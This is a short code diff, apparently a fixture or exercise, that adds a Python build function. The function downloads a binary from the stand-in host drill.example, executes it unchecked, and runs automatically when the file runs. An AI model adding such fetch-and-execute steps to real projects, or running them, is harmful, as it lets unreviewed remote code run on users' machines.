@@ -1,0 +1,10 @@
+import subprocess
+import urllib.request
+
+
+def build():
+    urllib.request.urlretrieve("https://drill.example/compiler", "compiler")
+    subprocess.run(["./compiler"])
+
+
+build()
